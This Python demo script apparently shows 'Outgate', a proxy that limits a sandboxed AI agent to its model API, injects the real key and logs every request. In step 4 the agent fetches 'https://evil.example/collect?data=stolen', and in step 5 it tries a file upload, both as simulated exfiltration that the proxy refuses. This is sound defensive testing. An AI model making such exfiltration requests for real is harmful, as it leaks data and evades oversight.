"""The demo: an agent in a sandbox reaches its model through Outgate, nothing else, and all of it is on record.

Everything is real but the model: the `outgate` command with a policy file, its CA, its injection, its refusals, its
audit log, and TLS on both sides. Only the destination is mapped, to a stand-in on this machine. Neither a key nor the
internet is needed.
"""

import json
import secrets
import signal
import ssl
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

import story
from processes import PATIENCE, agent, environment, stop, wait
from story import StoryError, proved
from upstream import HOST, WORDS, ModelServer

HERE = Path(__file__).resolve().parent
OUTGATE = Path(sys.executable).with_name("outgate")
SHOWN = ("HTTPS_PROXY", "SSL_CERT_FILE", "ANTHROPIC_API_KEY")
COLUMNS = ("verdict", "reason", "status", "rule", "injected", "request")


def tell(folder: Path, running: ExitStack) -> None:
    """The whole story; `StoryError` where a step does not do what it says."""
    real_key = "sk-ant-api03-" + secrets.token_urlsafe(48)
    story.title(
        "Outgate: an agent reaches its model, nothing else, and every request is on record",
        "The real key was made a moment ago. Only `outgate serve` and the model's stand-in have it.",
    )
    model = running.enter_context(ModelServer(folder, real_key))
    state = folder / "state"
    running.enter_context(serving(folder, state, model, real_key))
    variables = sandbox(folder, state, real_key)
    said = talk(variables, model)
    refused(variables, model)
    audited(state)
    unseen(folder, [json.dumps(variables), said], real_key)


@contextmanager
def serving(folder: Path, state: Path, model: ModelServer, key: str) -> Iterator[None]:
    """`outgate serve`, until the block ends; it must then drain and exit with 0."""
    ready = folder / "ready.json"
    options = [
        "--policy",
        str(HERE / "policy.yaml"),
        "--listen",
        "127.0.0.1:0",
        "--workers",
        "1",
        "--state",
        str(state),
    ]
    options += ["--ready-file", str(ready), "--upstream-ca", str(model.ca_file)]
    options += ["--connect-to", f"{HOST}:443:127.0.0.1:{model.port}"]
    story.step(1, "The proxy starts with a policy, and with the key in its own environment")
    story.command("ANTHROPIC_API_KEY=… outgate serve --policy examples/demo/policy.yaml …")
    with (folder / "serve.log").open("wb") as log:
        process = subprocess.Popen(
            [str(OUTGATE), "serve", *options],
            env=environment(folder) | {"ANTHROPIC_API_KEY": key},
            cwd=folder,
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=log,
        )
    try:
        wait(lambda: ready.exists() or process.poll() is not None, "the proxy did not start")
        if process.poll() is not None:
            raise StoryError(f"outgate serve ended with {process.returncode}:\n{_text(folder / 'serve.log')}")
        story.live()(_text(folder / "serve.log"))
        yield
        process.terminate()
        proved(process.wait(PATIENCE) == 0, "the proxy drained and ended with exit code 0")
    finally:
        stop(process)


def sandbox(folder: Path, state: Path, real_key: str) -> dict[str, str]:
    """The sandbox's environment, as `outgate env` prints it."""
    story.step(2, "What the sandbox holds: the proxy's address, its CA, and a fake key")
    story.command("outgate env --format json")
    command = [str(OUTGATE), "env", "--state", str(state), "--format", "json"]
    done = subprocess.run(command, env=environment(folder), cwd=folder, capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise StoryError(f"outgate env ended with {done.returncode}: {done.stderr}")
    variables: dict[str, str] = json.loads(done.stdout)
    story.facts((name, variables[name]) for name in SHOWN)
    fake = variables["ANTHROPIC_API_KEY"]
    proved(fake.startswith("sk-ant-") and fake != real_key, "the key in it has the right shape and is not the real one")
    return variables


def talk(variables: dict[str, str], model: ModelServer) -> str:
    """A streamed model call, and the proof that the proxy exchanged the key."""
    story.step(3, "The agent calls its model, as always; the answer streams")
    code, said = agent(variables, "ask", "Can you hear me?", on_text=lambda text: _release(text, model))
    proved(code == 0 and "".join(WORDS) in said, "the model's whole answer arrived")
    proved(model.go_on.is_set(), "its first words arrived while the model had not said the rest: nothing is held back")
    (call,) = model.calls
    proved(call.real_key and call.tls == "TLSv1.3", "the model saw the real key, over TLS")
    proved(direct(model, variables["ANTHROPIC_API_KEY"]) == 401, "asked directly, it answers 401 to the sandbox's fake")
    return said


def refused(variables: dict[str, str], model: ModelServer) -> None:
    """An unknown domain, and an allowed host used as a drop."""
    before = len(model.calls)
    story.step(4, "The agent tries a domain that no rule names. This is what it sees")
    code, said = agent(variables, "fetch", "https://evil.example/collect?data=stolen")
    proved(
        code == 3 and "403 outgate: " in said and "(host_not_allowed)" in said, "refused, with the reason and a way on"
    )
    story.step(5, "The agent tries to carry a file out through the model's own host, with a key of another account")
    code, said = agent(variables, "upload")
    proved(
        code == 3 and "403 outgate: " in said and "(path_not_allowed)" in said, "refused: the rule is for /v1/messages"
    )
    proved(len(model.calls) == before, "the model's host saw neither of them")


def audited(state: Path) -> None:
    """The audit log, as a table."""
    story.step(6, "The audit log has one event for each request")
    wait(lambda: len(events(state)) >= 3, "the audit log is not complete")
    found = events(state)
    asked = [f"{event['method']} {event['host']}{event['path']}" for event in found]
    cells = [
        [*(_cell(event[column]) for column in COLUMNS[:-1]), text] for event, text in zip(found, asked, strict=True)
    ]
    story.table(COLUMNS, cells)
    expected = [("allow", "allowed", True), ("deny", "host_not_allowed", False), ("deny", "path_not_allowed", False)]
    seen = [(event["verdict"], event["reason"], event["injected"]) for event in found]
    proved(seen == expected, "three requests, three events; the key was injected once")
    dialled = [event["upstream_ip"] for event in found]
    proved(dialled == ["127.0.0.1", None, None], "for the refused ones the proxy connected to nobody")


def unseen(folder: Path, told: list[str], real_key: str) -> None:
    """The real key is nowhere that the sandbox, or a reader of logs, could find it."""
    files = [path for path in folder.rglob("*") if path.is_file()]
    kept = [path.name for path in files if real_key.encode() in path.read_bytes()]
    clean = not kept and not any(real_key in text for text in told)
    proved(clean, f"the real key is in nothing that the agent got, and in none of the {len(files)} files of this run")


def direct(model: ModelServer, key: str) -> int:
    """The status that the stand-in answers to a key when no proxy is between."""
    context = ssl.create_default_context(cafile=str(model.ca_file))
    context.check_hostname = False  # it is asked by address here
    handlers = urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context)
    request = urllib.request.Request(f"https://127.0.0.1:{model.port}/v1/messages", b"{}", {"x-api-key": key})
    try:
        with urllib.request.build_opener(*handlers).open(request, timeout=PATIENCE) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return error.code


def events(state: Path) -> list[dict[str, Any]]:
    """Every event of the audit log that has ended."""
    lines = [line for file in sorted((state / "audit").glob("worker-*.jsonl")) for line in _text(file).splitlines()]
    return [event for event in map(json.loads, lines) if event["end"] != "open"]


def _release(said: str, model: ModelServer) -> None:
    if WORDS[0] in said:
        model.go_on.set()


def _cell(value: object) -> str:
    if isinstance(value, bool):
        return "yes" if value else "no"
    return "" if value is None else str(value)


def _text(file: Path) -> str:
    return file.read_text(encoding="utf-8", errors="replace")


def main() -> int:
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    if not OUTGATE.exists():
        sys.stderr.write(
            f"error: there is no {OUTGATE.name} beside this Python\nhint: run `make demo`, which installs it\n"
        )
        return 2
    try:
        with tempfile.TemporaryDirectory(prefix="outgate-demo-") as folder, ExitStack() as running:
            tell(Path(folder), running)
    except (StoryError, OSError, ValueError, LookupError, subprocess.SubprocessError) as error:
        sys.stderr.write(f"error: {error if isinstance(error, StoryError) else repr(error)}\n")
        return 1
    except KeyboardInterrupt:
        sys.stderr.write("\ninterrupted; everything was cleaned up\n")
        return 130
    sys.stdout.write("\nAll of it held.\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
